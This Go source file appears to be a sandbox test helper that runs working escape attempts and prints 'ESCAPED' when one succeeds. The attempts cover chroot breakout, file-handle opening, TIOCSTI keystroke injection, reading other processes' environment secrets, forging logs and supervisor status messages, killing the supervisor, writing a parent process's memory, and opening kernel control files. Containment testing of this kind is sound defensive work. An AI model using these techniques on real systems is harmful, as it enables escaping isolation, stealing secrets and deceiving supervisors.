//go:build linux

package sandbox

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// escaped is printed by what got through.
const escaped = "ESCAPED"

// attack does from inside what no shell can. It prints escaped where it got through.
func attack(args []string) int {
	through := func(what string) { fmt.Println(escaped, what) }
	number := func(s string) int { n, _ := strconv.Atoi(s); return n }
	switch verb := args[0]; verb {
	case "connect": // network address
		c, err := net.DialTimeout(args[1], args[2], 5*time.Second)
		var late net.Error
		if err == nil || errors.As(err, &late) && late.Timeout() { // on its way counts
			through("connected to " + args[2])
		} else {
			fmt.Println(err)
		}
		if c != nil {
			c.Close()
		}
	case "kill":
		if unix.Kill(number(args[1]), syscall.SIGKILL) == nil {
			through("killed")
		}
	case "ptrace":
		if unix.PtraceAttach(number(args[1])) == nil {
			through("traced")
		}
	case "mount":
		if unix.Mount("none", "/mnt", "tmpfs", 0, "") == nil {
			through("mounted")
		}
		for _, path := range args[1:] {
			if unix.Mount("none", path, "", unix.MS_REMOUNT|unix.MS_BIND, "") == nil &&
				os.WriteFile(path+"/escaped", nil, 0o600) == nil {
				through("made writable " + path)
			}
			if unix.Unmount(path, unix.MNT_DETACH) == nil {
				through("unmounted " + path)
			}
		}
	case "mknod": // the disk that / is on
		var st unix.Stat_t
		if unix.Stat("/", &st) == nil && unix.Mknod("disk", unix.S_IFBLK|0o600, int(st.Dev)) == nil {
			if f, err := os.OpenFile("disk", os.O_RDWR, 0); err == nil {
				f.Close()
				through("opened the disk")
			}
		}
	case "chroot": // out of it by a directory kept open
		if f, err := os.Open("/"); err == nil && os.Mkdir("jail", 0o700) == nil && unix.Chroot("jail") == nil &&
			f.Chdir() == nil {
			for range 20 {
				_ = os.Chdir("..")
			}
			if unix.Chroot(".") == nil {
				probe(args[1:], through)
			}
		}
	case "handle": // a file by its number, past every mount
		if fd, err := unix.Open(".", unix.O_DIRECTORY, 0); err == nil {
			h := unix.NewFileHandle(1, []byte{2, 0, 0, 0, 0, 0, 0, 0})
			if got, err := unix.OpenByHandleAt(fd, h, unix.O_RDONLY); err == nil {
				unix.Close(got)
				through("opened by handle")
			}
		}
	case "terminal":
		for _, path := range []string{"/dev/tty", "/dev/pts/0", "/dev/console", "/dev/tty0", "/dev/vcs"} {
			if f, err := os.OpenFile(path, os.O_RDWR|unix.O_NOCTTY, 0); err == nil {
				c := byte('x')
				if err := unix.IoctlSetPointerInt(int(f.Fd()), unix.TIOCSTI, int(c)); err == nil {
					through("typed into " + path)
				}
			}
		}
	case "log": // what was printed before
		fmt.Println("first words")
		for _, name := range []string{"/proc/self/fd/1", "/proc/self/fd/2", "/dev/stdout"} {
			if f, err := os.OpenFile(name, os.O_WRONLY|os.O_TRUNC, 0); err == nil {
				f.WriteAt([]byte("forged!"), 0)
				f.Close()
			}
		}
		_ = unix.Ftruncate(1, 0)
		if flags, err := unix.FcntlInt(1, unix.F_GETFL, 0); err == nil {
			_, _ = unix.FcntlInt(1, unix.F_SETFL, flags&^unix.O_APPEND)
			_, _ = unix.Pwrite(1, []byte("forged!"), 0)
		}
	case "prompt": // standard input is a file of the host
		if f, err := os.OpenFile("/proc/self/fd/0", os.O_RDWR, 0); err == nil {
			f.WriteAt([]byte("forged!"), 0)
		}
		_, _ = unix.Pwrite(0, []byte("forged!"), 0)
	case "environ": // secrets of whoever started us
		dirs, _ := filepath.Glob("/proc/[0-9]*/environ")
		for _, name := range dirs {
			if b, err := os.ReadFile(name); err == nil && strings.Contains(string(b), args[1]) {
				through("read " + name)
			}
		}
	case "descriptors": // what is left open leads outside
		fds, _ := filepath.Glob("/proc/[0-9]*/fd/*")
		for _, fd := range fds {
			f, err := os.Open(fd)
			if err != nil {
				continue
			}
			if info, err := f.Stat(); err == nil && info.IsDir() {
				probe([]string{fd + "/" + args[1], fd + "/.." + args[1]}, through)
			}
			f.Close()
		}
	case "status": // says in every process's place that all is well, and ends with another status
		dirs, _ := filepath.Glob("/proc/[0-9]*")
		var others []int
		for _, dir := range dirs {
			if pid := number(filepath.Base(dir)); pid != os.Getpid() {
				others = append(others, pid)
			}
		}
		for _, pid := range others { // before the first write, which may end all
			if unix.PtraceAttach(pid) == nil {
				_ = unix.PtraceDetach(pid)
			} else if pid != 1 { // the supervisor, and what stands between
				fmt.Println("not to be traced", pid)
			}
		}
		for _, pid := range others {
			process, err := unix.PidfdOpen(pid, 0)
			if err != nil {
				continue
			}
			for fd := 3; fd < 64; fd++ {
				if got, err := unix.PidfdGetfd(process, fd, 0); err == nil {
					_, _ = unix.Write(got, []byte{1, 0, 0, 0, 0, 0, 0, 0})
					_, _ = unix.Write(got, []byte(`{"Over":true}`))
				}
			}
		}
		return 1
	case "memory": // of whoever started us, as it is: nothing breaks
		if err := rewrite(os.Getppid(), through); err != nil {
			fmt.Println(err)
			return 2
		}
	case "silence": // the supervisor is killed
		_ = unix.Kill(os.Getppid(), syscall.SIGKILL)
		return 0
	case "kernel":
		for _, name := range []string{"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
			"/proc/sysrq-trigger", "/sys/kernel/uevent_helper",
			"/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/release_agent", "/proc/sys/fs/binfmt_misc/register",
			"/dev/mem", "/dev/kmsg", "/proc/kcore"} {
			if f, err := os.OpenFile(name, os.O_WRONLY, 0); err == nil {
				f.Close()
				through("opened " + name)
			}
		}
	default:
		fmt.Println("no such attack", verb)
		return 2
	}
	return 0
}

// rewrite writes a few bytes of another process's stack again, each way.
func rewrite(pid int, through func(string)) error {
	maps, err := os.ReadFile(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return err
	}
	var from, to uintptr
	for line := range strings.Lines(string(maps)) {
		if strings.HasSuffix(line, "[stack]\n") {
			_, err = fmt.Sscanf(line, "%x-%x ", &from, &to)
		}
	}
	if err != nil || to == 0 {
		return fmt.Errorf("no stack: %w", err)
	}
	at, was := to-64, make([]byte, 8)
	local := []unix.Iovec{{Base: &was[0], Len: 8}}
	remote := []unix.RemoteIovec{{Base: at, Len: 8}}
	if n, err := unix.ProcessVMReadv(pid, local, remote, 0); n != 8 {
		return fmt.Errorf("read it: %w", err)
	}
	if f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0); err == nil {
		if _, err := f.WriteAt(was, int64(at)); err == nil {
			through("mem")
		}
		f.Close()
	}
	if n, err := unix.ProcessVMWritev(pid, local, remote, 0); n == 8 && err == nil {
		through("process_vm_writev")
	}
	if process, err := unix.PidfdOpen(pid, 0); err == nil {
		if _, err := unix.PidfdGetfd(process, 1, 0); err == nil {
			through("pidfd_getfd")
		}
	}
	runtime.LockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, unix.WALL, nil); err != nil {
		return err
	}
	if _, err := unix.PtracePokeData(pid, at, was); err == nil {
		through("ptrace")
	}
	return unix.PtraceDetach(pid)
}

// probe tells of files that are there to be read or written.
func probe(paths []string, through func(string)) {
	for _, path := range paths {
		if b, err := os.ReadFile(path); err == nil && strings.Contains(string(b), "SECRET") {
			through("read " + path)
		}
		if f, err := os.OpenFile(path, os.O_WRONLY, 0); err == nil {
			f.Close()
			through("may write " + path)
		}
	}
}
